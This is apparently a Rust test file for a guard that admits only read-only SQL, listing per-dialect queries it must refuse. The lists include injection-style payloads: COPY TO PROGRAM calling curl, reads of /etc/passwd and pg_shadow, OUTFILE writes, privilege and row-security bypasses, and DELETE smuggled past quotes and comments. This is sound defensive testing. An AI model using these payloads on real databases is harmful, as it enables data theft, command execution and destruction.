//! Tables of attacks, which must be refused, one a line.

use super::dialect::Dialect;
use super::guard::check;

/// The engines.
const ALL: [Dialect; 3] = [Dialect::Postgres, Dialect::MySql, Dialect::Sqlite];

/// Attacks on every engine.
const REFUSED_EVERYWHERE: &str = r#"
;
-- only a comment
/* only a comment */
INSERT INTO t VALUES (1)
insert into t select * from u
UPDATE t SET a = 1
DELETE FROM t
/* SELECT */ DELETE FROM t
MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE
REPLACE INTO t VALUES (1)
TRUNCATE TABLE t
DROP TABLE t
ALTER TABLE t ADD c int
CREATE TABLE t (a int)
CREATE TABLE t AS SELECT 1
CREATE VIEW v AS SELECT 1
CREATE INDEX i ON t (a)
GRANT ALL ON t TO u
REVOKE ALL ON t FROM u
BEGIN
START TRANSACTION
COMMIT
ROLLBACK
SAVEPOINT s
RELEASE SAVEPOINT s
SET x = 1
SET TRANSACTION READ WRITE
DESCRIBE t
EXPLAIN t
EXPLAIN DELETE FROM t
EXPLAIN ANALYZE SELECT 1
EXPLAIN ANALYZE DELETE FROM t
EXPLAIN EXPLAIN SELECT 1
EXPLAIN INSERT INTO t VALUES (1)
SELECT 1; SELECT 2
SELECT 1; DROP TABLE t
SELECT 1; COMMIT; DELETE FROM t; --
SELECT 1 /* ; */ ; /* ; */ DELETE FROM t
; SELECT 1
SELECT ';' ; DELETE FROM t
SELECT * INTO u FROM t
SELECT * FROM t INTO u
SELECT a FROM t UNION SELECT a INTO u FROM v
SELECT * FROM (SELECT * INTO u FROM t) x
SELECT * FROM t FOR UPDATE
SELECT * FROM t FOR SHARE
SELECT * FROM (SELECT * FROM t FOR UPDATE) x
WITH a AS (SELECT * FROM t FOR UPDATE) SELECT * FROM a
WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a
WITH a AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM a
WITH a AS (UPDATE t SET b = 1 RETURNING *) SELECT * FROM a
WITH a AS (SELECT 1) DELETE FROM t
WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a
WITH a AS (SELECT 1) UPDATE t SET b = 1
SELECT * FROM (WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a) x
SELECT 1 WHERE EXISTS (WITH a AS (DELETE FROM t RETURNING 1) SELECT 1 FROM a)
SELECT 1 UNION (WITH a AS (UPDATE t SET b = 1 RETURNING 1) SELECT 1 FROM a)
SELECT 'unterminated
SELECT "unterminated
SELECT /* unterminated
SELECT 1 /*+ SET_VAR(a = 1) */
SELECT /*+ MAX_EXECUTION_TIME(0) */ 1
SELECT \N
SELECT 1 \g
SELECT {fn sleep(1)}
SELECT a FROM t SETTINGS max_threads = 1
SELECT a FROM t FORMAT CSV
SELECT TOP 5 a FROM t
FROM t SELECT a
SELECT 1 )
(SELECT 1
SELEC 1
42
CALL p()
LOCK TABLE t
VACUUM
COPY t TO '/tmp/x'
PREPARE p AS DELETE FROM t
EXECUTE p
ANALYZE t"#;

/// Attacks on PostgreSQL: statements, clauses and tricks with quotes and comments.
const REFUSED_POSTGRES: &str = r#"
COPY (SELECT * FROM t) TO PROGRAM 'curl example.org'
COPY t FROM '/etc/passwd'
DO $$ BEGIN DELETE FROM t; END $$
CALL pg_sleep(1)
LISTEN c
NOTIFY c, 'x'
UNLISTEN *
DISCARD ALL
RESET ALL
SET ROLE postgres
RESET app.user_id
RESET ROLE
RESET SESSION AUTHORIZATION
DISCARD TEMP
SET app.user_id = 'eve'
SET app.user_id TO eve
SET SESSION app.user_id = 'eve'
SET LOCAL app.user_id = 'eve'
SET LOCAL "app"."user_id" = 'eve'
SET LOCAL ROLE NONE
SET LOCAL SESSION AUTHORIZATION DEFAULT
SET LOCAL row_security = off
SHOW app.user_id
SELECT 1; SET LOCAL app.user_id = 'eve'
ALTER ROLE reader SET app.user_id = 'eve'
UPDATE pg_settings SET setting = 'eve' WHERE name = 'app.user_id'
SET SESSION AUTHORIZATION postgres
SET LOCAL default_transaction_read_only = off
SHOW ALL
SHOW TABLES
REFRESH MATERIALIZED VIEW v
CLUSTER t
REINDEX TABLE t
CHECKPOINT
LOAD 'x'
SECURITY LABEL ON TABLE t IS 'x'
DECLARE c CURSOR FOR SELECT 1
FETCH ALL FROM c
END
ABORT
PREPARE TRANSACTION 'x'
EXPLAIN (ANALYZE) SELECT 1
EXPLAIN (ANALYZE true, COSTS off) DELETE FROM t
EXPLAIN (COSTS off, "analyze") SELECT 1
EXPLAIN (WAL) SELECT 1
EXPLAIN (VERBOSE) DELETE FROM t
EXPLAIN EXECUTE p
EXPLAIN CREATE TABLE t AS SELECT 1
SELECT * INTO TEMP u FROM t
SELECT * FROM t FOR NO KEY UPDATE
SELECT * FROM t FOR KEY SHARE
SELECT * FROM t FOR UPDATE SKIP LOCKED
WITH a AS (MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM a
TABLE pg_shadow
SELECT $$a$$; DELETE FROM t; SELECT $$b$$
SELECT $a$ $$ $a$; DELETE FROM t
SELECT E'\'; DELETE FROM t; --'; DELETE FROM t
SELECT '\' || pg_sleep(9) || '
SELECT '\', pg_sleep(1), '\'
SELECT E'a' 'b\' || pg_sleep(1) || 'c'
SELECT x'\' || pg_sleep(1) || '
SELECT /* /* */ pg_sleep(1) */ 1 /* */ FROM pg_sleep(1)
SELECT 1 -/* ' */ + pg_sleep(1) -- '
SELECT 1 >-- 2
SELECT 1 ?-- 2
SELECT $1$a$1$
SELECT 1 b"pg_sleep"
SELECT 1a FROM t
SELECT a := 1"#;

/// Attacks on MySQL and MariaDB: statements, clauses and tricks with quotes and comments.
const REFUSED_MYSQL: &str = r#"
SELECT * FROM t INTO OUTFILE '/tmp/x'
SELECT * INTO OUTFILE '/tmp/x' FROM t
SELECT 'x' INTO DUMPFILE '/tmp/x'
SELECT 1 INTO @x
SELECT @x := 1
SELECT @x:=@x+1 FROM t
SELECT @@global.secure_file_priv
SELECT @@version
SELECT @'x'
SELECT @`x`
SELECT a@b FROM t
SELECT * FROM t LOCK IN SHARE MODE
SELECT * FROM t FOR UPDATE NOWAIT
SELECT * FROM t PROCEDURE ANALYSE()
SELECT NEXT VALUE FOR s
SELECT next /* */ value for `s`
HANDLER t OPEN
HANDLER t READ FIRST
LOAD DATA INFILE '/etc/passwd' INTO TABLE t
LOAD XML INFILE 'x' INTO TABLE t
DO sleep(1)
DO release_all_locks()
KILL 1
FLUSH TABLES
RESET MASTER
PURGE BINARY LOGS TO 'x'
CHANGE MASTER TO MASTER_HOST = 'x'
INSTALL PLUGIN p SONAME 'x'
UNINSTALL PLUGIN p
OPTIMIZE TABLE t
RENAME TABLE t TO u
LOCK TABLES t WRITE
UNLOCK TABLES
USE mysql
SHOW GRANTS
SHOW PROCESSLIST
SHOW VARIABLES
SET GLOBAL general_log = 1
SET PASSWORD = 'x'
XA START 'x'
PREPARE s FROM 'DELETE FROM t'
EXECUTE s
ANALYZE TABLE t
ANALYZE SELECT * FROM t
ANALYZE FORMAT=JSON DELETE FROM t
EXPLAIN FOR CONNECTION 5
EXPLAIN ANALYZE FORMAT=TREE SELECT 1
DESC SELECT 1
BEGIN NOT ATOMIC DELETE FROM t; END
SELECT 1 /*! INTO OUTFILE '/tmp/x' */
SELECT /*!50000 sleep(1) */
SELECT 1 /*!*/
SELECT 1 /*!99999 */ + 1
/*! SELECT 1 */
SELECT /*M! sleep(1) */ 1
SELECT /*M!100100 sleep(1) */ 1
SELECT 1 /* a */ /*! , 2 */
SELECT 1--1
SELECT 1--sleep(1)
SELECT 1 --
SELECT 'a\'b', "c\"d"
SELECT '\', sleep(1), '\'
SELECT "\", sleep(1), "\"
SELECT "\" /*", sleep(1) -- */
SELECT 1.or sleep(1)
SELECT 0x1fsleep(1)
SELECT a <@b
SELECT `a
SELECT 1 :"#;

/// Attacks on SQLite: statements, clauses and tricks with quotes and comments.
const REFUSED_SQLITE: &str = r#"
ATTACH DATABASE '/tmp/x.db' AS x
ATTACH '/tmp/x.db' AS x
DETACH DATABASE x
DETACH x
PRAGMA query_only = off
PRAGMA table_info(t)
PRAGMA writable_schema = 1
VACUUM INTO '/tmp/x'
REINDEX
REINDEX t
ANALYZE
BEGIN IMMEDIATE
END
END TRANSACTION
ROLLBACK TO s
CREATE VIRTUAL TABLE t USING fts5(x)
CREATE TRIGGER r AFTER INSERT ON t BEGIN SELECT 1; END
CREATE TEMP TABLE t AS SELECT 1
REPLACE INTO t SELECT 1
INSERT OR REPLACE INTO t VALUES (1)
UPDATE OR IGNORE t SET a = 1
DROP TRIGGER r
DROP VIEW v
ALTER TABLE t RENAME TO u
EXPLAIN VACUUM
EXPLAIN QUERY PLAN DELETE FROM t
SHOW TABLES
EXPLAIN PRAGMA table_info(t)
WITH a AS (SELECT 1) REPLACE INTO t SELECT * FROM a
SELECT [a]]b], load_extension('x')
SELECT [a]] FROM t
SELECT 1 # 2
SELECT #1
SELECT $a::b(c)
SELECT x'zz'
SELECT 'a' 'b' ; DELETE FROM t
SELECT 1L
SELECT @a
SELECT * FROM t LIMIT 1; PRAGMA x
SELECT `a"#;

/// The queries of `table` that pass.
fn accepted(table: &str, dialect: Dialect) -> Vec<String> {
    let passed = table.lines().filter(|sql| !sql.is_empty() && check(sql, dialect, &[]).is_ok());
    passed.map(|sql| format!("{dialect:?}: {sql}")).collect()
}

#[test]
fn a_query_that_does_more_than_read_is_refused() {
    let mut wrong: Vec<String> = ALL.iter().flat_map(|dialect| accepted(REFUSED_EVERYWHERE, *dialect)).collect();
    wrong.extend(accepted(REFUSED_POSTGRES, Dialect::Postgres));
    wrong.extend(accepted(REFUSED_MYSQL, Dialect::MySql));
    wrong.extend(accepted(REFUSED_SQLITE, Dialect::Sqlite));
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_query_that_is_nested_or_chained_without_end_is_refused_at_once() {
    let deep = |open: &str, middle: &str, close: &str, times: usize| {
        format!("SELECT {}{middle}{}", open.repeat(times), close.repeat(times))
    };
    let chained = |link: &str| format!("SELECT 1{}", link.repeat(99_000 / link.len()));
    for dialect in ALL {
        for times in [60, 10_000] {
            for (open, close) in [("(", ")"), ("(SELECT ", ")"), ("abs(", ")"), ("NOT ", ""), ("CASE WHEN ", " END")] {
                assert!(check(&deep(open, "1", close, times), dialect, &[]).is_err(), "{dialect:?}: {open}");
            }
            assert!(check(&deep("* FROM (SELECT ", "1", ") x", times.min(6_000)), dialect, &[]).is_err());
        }
        for link in ["+1", " OR 1", " UNION SELECT 1", ",1 UNION SELECT 1", " IS NULL", "::int", "[1]", " - - 1"] {
            assert!(check(&chained(link), dialect, &[]).is_err(), "{dialect:?}: {link}");
        }
    }
}

#[test]
fn a_query_that_is_too_long_or_holds_control_characters_is_refused() {
    let long = format!("SELECT '{}'", "x".repeat(100_000));
    for dialect in ALL {
        for sql in [&long, "SELECT '\0'", "SELECT 1\u{b}", "SELECT\u{c}1", "SELECT 1 \u{7f}", "SELECT \u{feff}1"] {
            assert!(check(sql, dialect, &[]).is_err(), "{dialect:?}: {sql:.40}");
        }
    }
    assert!(check("SELECT 1 --\u{a0}, sleep(5)\n", Dialect::MySql, &[]).is_err());
    assert!(check("SELECT 1\u{a0}+ 1 FROM t", Dialect::Sqlite, &[]).is_err());
}

#[test]
fn a_statement_hidden_behind_a_line_break_is_refused() {
    for dialect in ALL {
        for sql in
            ["SELECT 1 -- x\n; DELETE FROM t", "SELECT 1 -- x\r\n INTO u", "SELECT '\n'\n; COMMIT", "--\nDROP TABLE t"]
        {
            assert!(check(sql, dialect, &[]).is_err(), "{dialect:?}: {sql}");
        }
    }
    assert!(check("SELECT 1 -- x\r, pg_sleep(1)", Dialect::Postgres, &[]).is_err());
}
